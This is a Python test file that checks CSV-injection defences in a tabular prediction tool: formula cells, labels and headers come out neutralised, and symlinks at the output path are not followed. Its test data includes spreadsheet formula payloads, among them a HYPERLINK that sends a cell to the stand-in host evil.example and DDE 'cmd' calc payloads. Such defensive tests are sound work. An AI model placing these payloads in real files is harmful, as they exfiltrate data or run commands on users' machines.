"""CSV injection: formula cells from an uploaded file never reach a written CSV as formulas.

| attack | expected result | where it is enforced |
|---|---|---|
| ``=HYPERLINK(...)``, ``+``, ``-``, ``@``, tab, CR cells in an ID column of a file to predict | written as ``'=HYPERLINK(...)`` etc., quoted; negative predictions stay numbers | ``tools.io.csv_safety.write_csv`` from ``tools.predict.predict_file`` |
| a formula as a class label | the prediction cell is neutralised too | the same |
| a formula-named column | the header is neutralised | the same |
| a CSV written by sandboxed code with formula cells | copied out neutralised, numbers unquoted | ``Workspace.copy_out`` via ``neutralise_csv_bytes`` |
| a link planted at the predictions path | replaced by the file (atomic rename), not followed; file mode 0600 | ``tools.io.safe_files.write_atomic`` |
"""

from __future__ import annotations

import csv
import json
import stat
from pathlib import Path

import joblib
import numpy as np
import pandas as pd

from tools.analyze.profile import profile_table
from tools.io.csv_safety import neutralise_cell, neutralise_csv_bytes
from tools.models.estimator import TabularModel
from tools.models.preprocessing import column_kinds
from tools.predict import predict_file, training_schema

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
ATTACKS = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd", "\t=1+1"]


def _save_run(frame: pd.DataFrame, run: Path, *, target: str, features: list[str]) -> None:
    profile = profile_table(frame, target=target)
    family = "ridge" if profile.task == "regression" else "logistic_regression"
    model = TabularModel(family, profile.task, column_kinds(profile, features), seed=0)
    model.fit(frame[features], frame[target])
    schema = training_schema(
        frame,
        input_columns=model.input_columns_,
        target=target,
        task=profile.task,
        id_columns=["account"],
    )
    run.mkdir()
    joblib.dump(model, run / "model.joblib")
    (run / "schema.json").write_text(json.dumps(schema.to_dict()), encoding="utf-8")


def _rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_regression_predictions_neutralise_formulas_and_keep_negatives(tmp_path: Path) -> None:
    rng = np.random.default_rng(0)
    x = rng.normal(size=60)
    train = pd.DataFrame(
        {"account": [f"K{i}" for i in range(60)], "x": x, "balance": -100.0 + 10 * x}
    )
    _save_run(train, tmp_path / "run", target="balance", features=["x"])
    new = pd.DataFrame({"account": [*ATTACKS, "K-plain"], "x": np.linspace(-2, 2, 6)})
    new.to_csv(tmp_path / "new.csv", index=False)

    predict_file(tmp_path / "run", tmp_path / "new.csv", out=tmp_path / "preds.csv")

    raw = (tmp_path / "preds.csv").read_text(encoding="utf-8")
    rows = _rows(tmp_path / "preds.csv")
    assert rows[0] == ["account", "prediction"]
    # load_table trims the tab off "\t=1+1"; what is left is still a formula, and defused
    assert [r[0] for r in rows[1:]] == [*("'" + a.strip() for a in ATTACKS), "K-plain"]
    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")"' in raw
    for line in raw.splitlines()[1:]:
        assert line.startswith('"'), line  # every text cell quoted
        prediction = line.rsplit(",", 1)[1]
        assert not prediction.startswith(("'", '"')), line  # numbers written as numbers
        assert float(prediction) < 0
    read_back = pd.read_csv(tmp_path / "preds.csv")
    assert read_back["prediction"].dtype == np.float64
    assert stat.S_IMODE((tmp_path / "preds.csv").stat().st_mode) == 0o600


def test_formula_labels_and_column_names_are_neutralised(tmp_path: Path) -> None:
    rng = np.random.default_rng(1)
    x = rng.normal(size=80)
    train = pd.DataFrame(
        {
            "account": [f"A{i}" for i in range(80)],
            "=cmd|calc": x,
            "label": np.where(x > 0, "=1+1", "@ok"),
        }
    )
    _save_run(train, tmp_path / "run", target="label", features=["=cmd|calc"])
    train.drop(columns="label").head(6).to_csv(tmp_path / "new.csv", index=False)
    planted = tmp_path / "elsewhere.txt"
    planted.write_text("keep me")
    (tmp_path / "preds.csv").symlink_to(planted)

    predict_file(tmp_path / "run", tmp_path / "new.csv", out=tmp_path / "preds.csv")

    assert planted.read_text() == "keep me"  # the link was replaced, not written through
    assert not (tmp_path / "preds.csv").is_symlink()
    rows = _rows(tmp_path / "preds.csv")
    assert rows[0] == ["account", "prediction", "proba_=1+1", "proba_@ok"]
    expected = ["'=1+1" if value > 0 else "'@ok" for value in x[:6]]
    assert [r[1] for r in rows[1:]] == expected
    assert all(0.0 <= float(r[2]) <= 1.0 for r in rows[1:])


def test_every_owasp_prefix_is_neutralised_and_nothing_else() -> None:
    for cell in ("=1", "+1", "-1", "@x", "\tx", "\rx"):
        assert neutralise_cell(cell) == "'" + cell
    for cell in ("x=1", " =1", "'=1", "", "1-2"):
        assert neutralise_cell(cell) == cell


def test_a_csv_from_the_sandbox_is_neutralised_cell_by_cell() -> None:
    made = b'name,score,when\n=HYPERLINK("x"),-3.5,2024-01-02\n@me,007,-2+3\n'
    assert neutralise_csv_bytes(made) == (
        b'"name","score","when"\n"\'=HYPERLINK(""x"")",-3.5,"2024-01-02"\n"\'@me",007,"\'-2+3"\n'
    )
